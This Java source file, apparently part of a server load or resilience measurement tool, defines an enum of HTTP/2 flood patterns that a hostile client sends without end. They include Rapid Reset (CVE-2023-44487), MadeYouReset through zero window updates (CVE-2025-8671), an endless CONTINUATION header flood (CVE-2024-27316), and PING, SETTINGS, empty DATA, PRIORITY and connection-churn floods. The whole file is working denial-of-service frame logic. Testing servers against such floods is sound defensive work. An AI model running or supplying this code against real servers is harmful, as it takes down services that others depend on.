package io.nearside.measure;

import java.util.concurrent.ThreadLocalRandom;

/** What a hostile HTTP/2 client sends without end, a piece at a time. */
enum Flood {
  /**
   * Streams that are cancelled as soon as they are open (CVE-2023-44487), each for another path.
   */
  RAPID_RESET {
    @Override
    int write(Frames frames, int stream, String authority, String path) {
      frames.get(stream, authority, path + number()).cancel(stream);
      return stream + 2;
    }
  },
  /** The same for one path, which may be a hit. */
  RAPID_RESET_OF_ONE {
    @Override
    int write(Frames frames, int stream, String authority, String path) {
      frames.get(stream, authority, path).cancel(stream);
      return stream + 2;
    }
  },
  /** Streams that the server is made to reset, by a window update of zero (CVE-2025-8671). */
  MADE_YOU_RESET {
    @Override
    int write(Frames frames, int stream, String authority, String path) {
      frames.get(stream, authority, path + number()).windowUpdate(stream, 0);
      return stream + 2;
    }
  },
  PING {
    @Override
    int write(Frames frames, int stream, String authority, String path) {
      frames.frame(Frames.PING, 0, 0, new byte[8]);
      return stream;
    }
  },
  SETTINGS {
    @Override
    int write(Frames frames, int stream, String authority, String path) {
      frames.frame(Frames.SETTINGS, 0, 0, new byte[] {0, 4, 0, 0, (byte) 0xff, (byte) 0xff});
      return stream;
    }
  },
  /** A field section that never ends, in small frames (CVE-2024-27316 and its like). */
  CONTINUATION {
    @Override
    int write(Frames frames, int stream, String authority, String path) {
      if (stream == FIRST_STREAM) {
        frames.frame(
            Frames.HEADERS, Frames.END_STREAM, stream, Frames.fields(authority, path + number()));
      }
      // x-flood: y, a literal with a new name that changes no table
      byte[] field = {0, 7, 'x', '-', 'f', 'l', 'o', 'o', 'd', 1, 'y'};
      frames.frame(Frames.CONTINUATION, 0, FIRST_STREAM, field);
      return FIRST_STREAM + 2;
    }
  },
  /** Frames of a request's body that hold none of it. */
  EMPTY_DATA {
    @Override
    int write(Frames frames, int stream, String authority, String path) {
      if (stream == FIRST_STREAM) {
        frames.frame(
            Frames.HEADERS, Frames.END_HEADERS, stream, Frames.fields(authority, path + number()));
      }
      frames.frame(Frames.DATA, 0, FIRST_STREAM);
      return FIRST_STREAM + 2;
    }
  },
  WINDOW_UPDATE {
    @Override
    int write(Frames frames, int stream, String authority, String path) {
      frames.windowUpdate(0, 1);
      return stream;
    }
  },
  PRIORITY {
    @Override
    int write(Frames frames, int stream, String authority, String path) {
      frames.frame(Frames.PRIORITY, 0, stream, new byte[] {0, 0, 0, 0, 16});
      return stream + 2;
    }
  },
  /** Connections that say the preface and are closed, one after the other. */
  CONNECTIONS {
    @Override
    int write(Frames frames, int stream, String authority, String path) {
      return LAST_STREAM;
    }
  };

  static final int FIRST_STREAM = 1;
  static final int LAST_STREAM = Integer.MAX_VALUE - 2;

  /** Writes a piece; the next one is for the stream that this answers. */
  abstract int write(Frames frames, int stream, String authority, String path);

  private static String number() {
    return Integer.toString(ThreadLocalRandom.current().nextInt(1 << 30), Character.MAX_RADIX);
  }
}
